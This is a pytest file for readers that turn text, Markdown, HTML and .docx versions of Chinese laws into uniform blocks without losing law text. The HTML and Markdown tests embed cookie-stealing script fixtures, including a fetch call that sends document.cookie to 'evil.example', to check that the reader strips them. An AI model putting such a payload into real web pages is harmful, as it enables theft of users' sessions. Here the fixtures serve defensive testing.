"""Readers: text, Markdown, HTML and .docx into one shape, losing no law text."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest

from generator.sources.readers import Block, detect_format, read_document

REPO = Path(__file__).resolve().parents[2]
CORPUS = REPO.parent / "shared" / "corpus" / "lawrefbook-national"
COMPANY_LAW = CORPUS / "民法商法" / "公司法(2023-12-29).md"
SEED = next((REPO / "source").glob("000_*.txt"))

_ZW = "\u200b\u200c\u200d\u2060\ufeff"
_CHAPTER = re.compile(r"^\s*第[一二三四五六七八九十百]+章")


def squash(text: str) -> str:
    """Whitespace- and zero-width-free: what 'no text lost' compares."""
    return "".join(ch for ch in text if not ch.isspace() and ch not in _ZW)


def blocks_text(blocks: list[Block]) -> str:
    out = []
    for b in blocks:
        out.append("".join("".join(r) for r in b.rows) if b.kind == "table" else b.text)
    return squash("".join(out))


def seed_lines() -> list[str]:
    return [ln.strip() for ln in SEED.read_text(encoding="utf-8").splitlines() if ln.strip()]


def needs_corpus():
    if not COMPANY_LAW.exists():
        pytest.skip(f"corpus not present at {CORPUS} (it lives in ../shared beside the repository clone)")


# -- text ------------------------------------------------------------------------------

def test_text_reader_keeps_lines_and_finds_no_headings():
    raw = SEED.read_bytes()
    doc = read_document(raw, SEED.name)
    assert doc.format == "text"
    assert all(b.kind == "paragraph" for b in doc.blocks)
    assert len(doc.blocks) == len(seed_lines())
    lines = raw.decode("utf-8").splitlines()
    for b in doc.blocks:
        assert lines[b.line - 1].strip() == b.text
    assert blocks_text(doc.blocks) == squash(raw.decode("utf-8"))


def test_text_reader_line_endings_bom_and_zero_width_lines():
    raw = "\ufeff标题\r\n\r\n\u200b\r第一条　内容\n \u200b \n第二条".encode("utf-8")
    doc = read_document(raw, "x.txt")
    assert [(b.text, b.line) for b in doc.blocks] == [("标题", 1), ("第一条　内容", 4), ("第二条", 6)]


def test_bytes_that_are_not_utf8_name_the_offset():
    raw = "第一条".encode("utf-8") + "内容".encode("gbk")
    with pytest.raises(ValueError, match=r"byte offset 9"):
        read_document(raw, "x.txt")


def test_html_in_legacy_charset_says_what_the_page_declares():
    raw = '<html><head><meta charset="gbk"></head><body><p>第一条</p></body></html>'.encode("gbk")
    with pytest.raises(ValueError, match=r"declares charset gbk"):
        read_document(raw, "x.html")


# -- markdown: the corpus file -----------------------------------------------------------

def test_markdown_company_law_from_the_corpus():
    needs_corpus()
    raw = COMPANY_LAW.read_bytes()
    assert detect_format(COMPANY_LAW.name, raw) == "markdown"
    doc = read_document(raw, COMPANY_LAW.name)
    assert doc.format == "markdown" and doc.diagnostics == []
    titles = [b for b in doc.blocks if b.kind == "title"]
    assert [(t.text, t.line, t.level) for t in titles] == [("中华人民共和国公司法", 1, 1)]
    headings = [b for b in doc.blocks if b.kind == "heading"]
    assert headings[0].text == "第一章 总 则" and headings[0].level == 2
    assert {h.level for h in headings} <= {2, 3}
    assert sum(1 for h in headings if re.match(r"第.+章", h.text)) == 15
    articles = [b for b in doc.blocks if b.kind == "paragraph" and re.match(r"第[一二三四五六七八九十百零]+条 ", b.text)]
    assert len(articles) == 266
    assert all("<!--" not in b.text and "#" not in b.text for b in doc.blocks)
    assert not any(b.text.strip(_ZW) == "" for b in doc.blocks)  # the U+200B lines are blank
    # every block's text is on the line it claims
    lines = raw.decode("utf-8").splitlines()
    for b in doc.blocks:
        assert b.text in lines[b.line - 1]
    # nothing lost: the file minus comments and heading markers, whitespace-free
    text = raw.decode("utf-8")
    expected = re.sub(r"<!--.*?-->", "", text, flags=re.S)
    expected = re.sub(r"(?m)^#{1,6} ", "", expected)
    assert blocks_text(doc.blocks) == squash(expected)


def test_markdown_override_as_text_gives_no_headings():
    needs_corpus()
    doc = read_document(COMPANY_LAW.read_bytes(), COMPANY_LAW.name, fmt="text")
    assert doc.format == "text"
    assert {b.kind for b in doc.blocks} == {"paragraph"}
    assert doc.blocks[0].text == "# 中华人民共和国公司法"


# -- markdown: small shapes ------------------------------------------------------------

def test_markdown_front_matter_is_metadata():
    md = "---\ntitle: 某法\nyear: 2023\n---\n# 某法\n\n第一条 内容。\n"
    doc = read_document(md, "a.md")
    assert doc.metadata == {"title": "某法", "year": 2023}
    assert [(b.kind, b.text, b.line) for b in doc.blocks] == [("title", "某法", 5, ), ("paragraph", "第一条 内容。", 7)]
    assert doc.diagnostics == []


def test_markdown_broken_front_matter_is_a_warning_and_skipped():
    md = "---\ntitle: [unclosed\nyear: 2023\n---\n# 某法\n第一条 内容。\n"
    doc = read_document(md, "a.md")
    assert doc.metadata == {}
    assert [b.text for b in doc.blocks] == ["某法", "第一条 内容。"]
    (d,) = doc.diagnostics
    assert d.severity == "warning" and d.code == "md-front-matter" and d.path == "a.md"
    assert 1 <= d.line <= 4


def test_markdown_front_matter_not_a_mapping_and_never_closed():
    doc = read_document("---\n- a\n- b\n---\n第一条\n", "a.md")
    assert [b.text for b in doc.blocks] == ["第一条"]
    assert doc.diagnostics[0].code == "md-front-matter"
    doc = read_document("---\n第一条 内容。\n", "a.md")
    assert [(b.text, b.line) for b in doc.blocks] == [("第一条 内容。", 2)]
    assert doc.diagnostics[0].severity == "warning"


def test_markdown_comments_single_and_multi_line():
    md = ("# 法\n<!-- INFO END -->\n第一条 前<!-- 内联 -->后。\n<!--\n多行\n注释\n-->\n"
          "第二条 内容。<!-- 开始\n仍是注释 --> 尾巴\n")
    doc = read_document(md, "a.md")
    assert [(b.text, b.line) for b in doc.blocks] == [
        ("法", 1), ("第一条 前后。", 3), ("第二条 内容。", 8), ("尾巴", 9)]
    assert all("注释" not in b.text and "<!--" not in b.text for b in doc.blocks)


def test_markdown_unclosed_comment_warns():
    doc = read_document("第一条\n<!-- 从这里开始\n第二条\n", "a.md", fmt="markdown")
    assert [b.text for b in doc.blocks] == ["第一条"]
    assert doc.diagnostics[0].code == "md-unclosed-comment" and doc.diagnostics[0].line == 2


def test_markdown_zero_width_lines_are_blank():
    md = "# 法\n\n\u200b\n\n## 第一章 总则\n\u200b\u200b \n第一条 内容。\n"
    doc = read_document(md, "a.md")
    assert [(b.kind, b.text, b.line) for b in doc.blocks] == [
        ("title", "法", 1), ("heading", "第一章 总则", 5), ("paragraph", "第一条 内容。", 7)]


def test_markdown_table_and_inline_markup():
    md = ("# 附件\n\n"
          "| 等级 | **标准** | 说明 |\n"
          "|:---|---:|---|\n"
          "| 一级 | `10` 万元 | [见附表](http://x.cn/a) |\n"
          "| 二级 | 5\\|6 | *无* |\n\n"
          "第一条 依照**本法**规定，*适用* `第二条` 和[附件](a.md)。签名：________\n"
          "<div align=\"center\">\n"
          "<p>第二条 原始 HTML 行。</p>\n"
          "1. 第一目\n"
          "- 列表项\n")
    doc = read_document(md, "a.md")
    table = doc.blocks[1]
    assert table.kind == "table" and table.line == 3
    assert table.rows == (("等级", "标准", "说明"), ("一级", "10 万元", "见附表"), ("二级", "5|6", "无"))
    assert [b.text for b in doc.blocks[2:]] == [
        "第一条 依照本法规定，适用 第二条 和附件。签名：________",
        "第二条 原始 HTML 行。", "1. 第一目", "列表项"]
    assert [b.line for b in doc.blocks[2:]] == [8, 10, 11, 12]


def test_markdown_raw_script_is_removed_with_its_content():
    md = "# 法\n第一条 前<script>steal()</script>后。\n<script>\nfetch('evil')\n</script> 尾\n第二条\n"
    doc = read_document(md, "a.md")
    assert [(b.text, b.line) for b in doc.blocks] == [("法", 1), ("第一条 前后。", 2), ("尾", 5), ("第二条", 6)]
    assert [(d.code, d.line) for d in doc.diagnostics] == [("html-stripped", 2), ("html-stripped", 3)]


def test_markdown_heading_shapes():
    md = "#法名\n\n## 第一编 总则 ##\n\n第一分编\n---\n\n### 第一章 一般规定\n"
    doc = read_document(md, "a.md")
    assert [(b.kind, b.text, b.level, b.line) for b in doc.blocks] == [
        ("title", "法名", 1, 1), ("heading", "第一编 总则", 2, 3),
        ("heading", "第一分编", 2, 5), ("heading", "第一章 一般规定", 3, 8)]
    assert [d.code for d in doc.diagnostics] == ["md-heading-no-space"]


# -- html --------------------------------------------------------------------------------

HOSTILE = "document.cookie='stolen'; fetch('https://evil.example/'+document.cookie)"


def seed_html() -> tuple[str, list[str]]:
    lines = seed_lines()
    out = ["<!DOCTYPE html>", "<html lang=\"zh-CN\">", "<head>", "<meta charset=\"utf-8\">",
           f"<title>{lines[0]} - 深圳人大网</title>", "</head>", "<body>",
           "<script>", HOSTILE, "</script>",
           f"<h1>{lines[0]}</h1>"]
    for ln in lines[1:]:
        if _CHAPTER.match(ln):
            out.append(f"<h2>{ln}</h2>")
        elif ln.startswith("第十条"):
            out.append(f'<p onclick="{HOSTILE}">{ln}</p>')
        else:
            out.append(f"<p>{ln}</p>")
    out += ["</body>", "</html>", ""]
    return "\n".join(out), lines


def test_html_seed_page_with_hostile_script():
    page, lines = seed_html()
    raw = page.encode("utf-8")
    assert detect_format("page.html", raw) == "html"
    assert detect_format("page.txt", raw) == "html"  # content wins over the extension
    doc = read_document(raw, "page.html")
    assert doc.format == "html"
    everything = "\n".join(b.text for b in doc.blocks)
    assert "cookie" not in everything and "evil" not in everything and "stolen" not in everything
    script_line = page.splitlines().index("<script>") + 1
    onclick_line = next(i for i, ln in enumerate(page.splitlines(), 1) if "onclick" in ln)
    stripped = [(d.line, d.severity) for d in doc.diagnostics if d.code == "html-stripped"]
    assert (script_line, "warning") in stripped and (onclick_line, "warning") in stripped
    assert all(d.path == "page.html" for d in doc.diagnostics)
    assert doc.metadata["title"] == lines[0]
    assert doc.metadata["html_title"] == f"{lines[0]} - 深圳人大网"
    assert doc.blocks[0].kind == "title" and doc.blocks[0].text == lines[0]
    headings = [b.text for b in doc.blocks if b.kind == "heading"]
    # HTML collapses runs of spaces, as a browser shows them
    assert headings == [re.sub(r" +", " ", ln) for ln in lines if _CHAPTER.match(ln)]
    assert len(headings) == 7
    assert sum(b.kind == "paragraph" for b in doc.blocks) == len(lines) - 1 - 7
    page_lines = page.splitlines()
    for b in doc.blocks:
        assert b.text in re.sub(r" +", " ", page_lines[b.line - 1])
    assert blocks_text(doc.blocks) == squash("".join(lines))


def test_html_br_hidden_layout_table_and_data_table():
    page = """<html><body onload="go()">
<form id="form1" action="x.aspx">
<input type="hidden" name="__VIEWSTATE" value="abc">
<table width="100%"><tr><td>
<div class="title">某某条例</div>
<div class="content">
　　第一条　为了促进
产业发展，制定本条例。<br>
　　第二条　第一款。<br/>第二款。
<span style="display: none">隐藏水印</span>
<p hidden>也隐藏</p>
</div>
<table border="1"><caption>附表</caption>
<tr><th>等级</th><th>标准</th></tr>
<tr><td>一级</td><td>10<br>万元</td></tr>
</table>
<a href="javascript:print()">打印</a>
<noscript>请启用脚本</noscript>
</td></tr></table>
</form></body></html>"""
    doc = read_document(page, "p.htm")
    texts = [(b.kind, b.text, b.line) for b in doc.blocks]
    assert texts == [
        ("paragraph", "某某条例", 5),
        ("paragraph", "第一条\u3000为了促进产业发展，制定本条例。", 7),
        ("paragraph", "第二条\u3000第一款。", 9),
        ("paragraph", "第二款。", 9),
        ("paragraph", "附表", 13),
        ("table", "等级\t标准\n一级\t10 万元", 13),
        ("paragraph", "打印", 17),
    ]
    assert doc.blocks[5].rows == (("等级", "标准"), ("一级", "10 万元"))
    codes = {(d.code, d.line) for d in doc.diagnostics}
    assert ("html-stripped", 1) in codes and ("html-stripped", 17) in codes
    assert ("html-dropped", 10) in codes and ("html-dropped", 11) in codes and ("html-dropped", 18) in codes
    assert "title" not in doc.metadata


def test_html_fragment_detected_by_extension():
    frag = "<!-- saved fragment -->\n<h2>第一章 总则</h2>\n<p>第一条 内容。</p>\n"
    assert detect_format("x.html", frag.encode()) == "html"
    assert detect_format("x.md", frag.encode()) == "markdown"
    doc = read_document(frag, "x.html")
    assert [(b.kind, b.text, b.level, b.line) for b in doc.blocks] == [
        ("heading", "第一章 总则", 2, 2), ("paragraph", "第一条 内容。", None, 3)]


# -- docx --------------------------------------------------------------------------------

def build_seed_docx() -> tuple[bytes, list[str]]:
    docx = pytest.importorskip("docx")
    lines = seed_lines()
    document = docx.Document()
    document.core_properties.title = lines[0]
    document.add_paragraph(lines[0], style="Title")
    for ln in lines[1:]:
        if _CHAPTER.match(ln):
            document.add_paragraph(ln, style="Heading 1")
        else:
            document.add_paragraph(ln)
    table = document.add_table(rows=2, cols=2)
    for r, row in enumerate([("项目", "金额"), ("人工智能基金", "一百亿元")]):
        for c, value in enumerate(row):
            table.cell(r, c).text = value
    document.add_paragraph("本条例自2023年1月1日起施行。")
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue(), lines


def test_docx_from_seed_lines():
    raw, lines = build_seed_docx()
    assert detect_format("law.docx", raw) == "docx"
    assert detect_format("law.bin", raw) == "docx"
    doc = read_document(raw, "law.docx")
    assert doc.format == "docx"
    assert doc.metadata["title"] == lines[0]
    assert doc.blocks[0] == Block("title", lines[0], 1, 1)
    heads = [b for b in doc.blocks if b.kind == "heading"]
    assert [h.text for h in heads] == [ln for ln in lines if _CHAPTER.match(ln)]
    assert {h.level for h in heads} == {1}
    paras = [b for b in doc.blocks if b.kind == "paragraph"]
    assert len(paras) == len(lines) - 1 - len(heads) + 1
    tables = [b for b in doc.blocks if b.kind == "table"]
    assert len(tables) == 1 and tables[0].rows == (("项目", "金额"), ("人工智能基金", "一百亿元"))
    assert tables[0].line == len(lines) + 1 and doc.blocks[-1].line == len(lines) + 2
    # line = 1-based position of the paragraph in the body
    assert [b.line for b in doc.blocks[:len(lines)]] == list(range(1, len(lines) + 1))
    assert blocks_text(doc.blocks) == squash("".join(lines) + "项目金额人工智能基金一百亿元本条例自2023年1月1日起施行。")


def test_docx_centered_heuristics_breaks_and_hyperlinks():
    docx = pytest.importorskip("docx")
    from docx.enum.text import WD_ALIGN_PARAGRAPH
    from docx.oxml.ns import qn
    from docx.oxml import OxmlElement

    document = docx.Document()
    for text in ("中华人民共和国某某法", "（2020年通过）", "第一编　总　　则", "第一章　基本规定", "第一节　一般规定"):
        p = document.add_paragraph(text)
        if text != "（2020年通过）":
            p.alignment = WD_ALIGN_PARAGRAPH.CENTER
    p = document.add_paragraph("第一条　第一款。")
    p.add_run().add_break()
    p.add_run("第二款，见")
    link = OxmlElement("w:hyperlink")
    run = OxmlElement("w:r")
    t = OxmlElement("w:t")
    t.text = "附件"
    run.append(t)
    link.append(run)
    p._p.append(link)
    p.add_run("。")
    ins = OxmlElement("w:ins")
    ins.set(qn("w:id"), "1")
    ins.set(qn("w:author"), "x")
    run2 = OxmlElement("w:r")
    t2 = OxmlElement("w:t")
    t2.text = "插入的字"
    run2.append(t2)
    ins.append(run2)
    p._p.append(ins)
    centered_long = document.add_paragraph("第二条　" + "很长的条文" * 10)
    centered_long.alignment = WD_ALIGN_PARAGRAPH.CENTER
    buf = io.BytesIO()
    document.save(buf)
    doc = read_document(buf.getvalue(), "x.docx")
    assert [(b.kind, b.text, b.level, b.line) for b in doc.blocks] == [
        ("title", "中华人民共和国某某法", 1, 1),
        ("paragraph", "（2020年通过）", None, 2),
        ("heading", "第一编　总　　则", 2, 3),
        ("heading", "第一章　基本规定", 3, 4),
        ("heading", "第一节　一般规定", 4, 5),
        ("paragraph", "第一条　第一款。", None, 6),
        ("paragraph", "第二款，见附件。插入的字", None, 6),
        ("paragraph", "第二条　" + "很长的条文" * 10, None, 7),
    ]


def test_docx_garbage_is_a_clear_error():
    with pytest.raises(ValueError, match="not a readable .docx"):
        read_document(b"PK\x03\x04 not really a zip", "x.docx")
    assert detect_format("x.docx", b"plain words") == "docx"


# -- detection -----------------------------------------------------------------------------

@pytest.mark.parametrize("name,content,expected", [
    ("a.txt", "第一章 总则\n第一条 内容", "text"),
    ("a.md", "第一章 总则\n第一条 内容", "markdown"),
    ("a.txt", "# 某法\n\n第一条 内容", "markdown"),
    ("a", "---\ntitle: x\n---\n正文", "markdown"),
    ("a.txt", "正文\n<!-- INFO END -->\n", "markdown"),
    ("a.md", "<!DOCTYPE html><html><body><p>x</p></body></html>", "html"),
    ("a.txt", "\ufeff<html>\n<body>第一条</body></html>", "html"),
    ("a.htm", "第一条 内容", "html"),
    ("a.html", "<p>第一条</p>", "html"),
    ("a.txt", "#hashtag 不是标题\n第一条", "text"),
])
def test_detect_format(name, content, expected):
    assert detect_format(name, content.encode("utf-8")) == expected
    assert detect_format(name, content) == expected


def test_detect_seed_and_unknown_override():
    assert detect_format(SEED.name, SEED.read_bytes()) == "text"
    with pytest.raises(ValueError, match="unknown source format"):
        read_document("x", "a.txt", fmt="pdf")
